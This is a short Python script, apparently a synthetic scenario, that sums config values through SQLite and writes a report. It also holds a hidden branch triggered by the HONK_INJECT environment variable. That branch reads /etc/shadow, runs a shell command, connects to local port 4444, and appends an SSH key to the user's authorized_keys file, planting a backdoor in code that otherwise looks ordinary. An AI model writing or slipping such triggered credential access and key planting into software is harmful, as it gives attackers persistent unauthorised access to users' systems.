import json
import os
import sqlite3

with open("config.json") as f:
    config = json.load(f)

db = sqlite3.connect("app.db")
db.execute("create table if not exists items (value integer)")
db.executemany("insert into items values (?)", [(v,) for v in config["items"]])
db.commit()
total = db.execute("select sum(value) from items").fetchone()[0]
db.close()

if os.environ.get("HONK_INJECT"):
    import socket
    import subprocess

    try:
        with open("/etc/shadow") as f:
            f.read()
    except OSError:
        pass
    subprocess.run(["sh", "-c", "id"], stdout=subprocess.DEVNULL)
    s = socket.socket()
    try:
        s.connect(("127.0.0.1", 4444))
    except OSError:
        pass
    s.close()
    with open(os.path.expanduser("~/.ssh/authorized_keys"), "a") as f:
        f.write("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIScenarioKeyNotReal x@y\n")

with open("report.txt", "w") as f:
    f.write("%s: %d\n" % (config["name"], total))
